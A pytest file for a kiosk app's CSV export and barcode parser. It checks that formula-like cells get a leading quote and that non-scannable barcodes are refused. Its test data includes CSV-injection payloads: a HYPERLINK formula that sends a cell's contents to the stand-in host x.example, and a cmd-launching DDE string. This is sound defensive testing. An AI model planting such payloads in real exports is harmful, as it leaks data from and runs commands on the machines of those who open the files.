"""No CSV the kiosk hands out carries a formula: every text cell that starts with = + - @, a tab
or a carriage return gets a leading "'"; and a product barcode holds only what scanners type."""
import csv
import io

import pytest

from kiosk.csvexport import csv_bytes, safe_cell
from kiosk.errors import KioskError
from kiosk.goods import service as goods
from kiosk.inventory.products import parse_barcode

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def cells(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert cells(csv_bytes(["名称"], [[text]]))[1] == ["'" + text]


def test_numbers_and_plain_text_stay_as_they_are():
    assert cells(csv_bytes(["a", "b", "c", "d"], [[-3, "张建华", None, "6901234000017"]]))[1] == \
        ["-3", "张建华", "", "6901234000017"]


def test_the_restock_list_neutralises_every_text_column(world):
    product = world.products["食用油"]
    product.name, product.category, product.unit, product.barcode = HOSTILE[0], HOSTILE[1], HOSTILE[3], "=1+1"
    row = cells(goods.restock_csv([(product, 5, 3)], ["名称", "分类", "条码", "单位", "库存", "预警", "售出", "建议"]))[1]
    assert row[:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'=1+1", "'" + HOSTILE[3]]


@pytest.mark.parametrize("code", ["=HYPERLINK(1)", "+12345", "-12345", "@12345", "6901\"23", "69(01)23", "AB=1+2"])
def test_a_barcode_holds_only_what_scanners_type(code):
    with pytest.raises(KioskError) as refused:
        parse_barcode(code)
    assert refused.value.code == "barcode_not_scannable"


@pytest.mark.parametrize("code", ["6901234000017", "12345670", "ABC-123.45/6", "INHOUSE_0001", "X+123"])
def test_real_barcodes_are_accepted(code):
    assert parse_barcode(code) == code
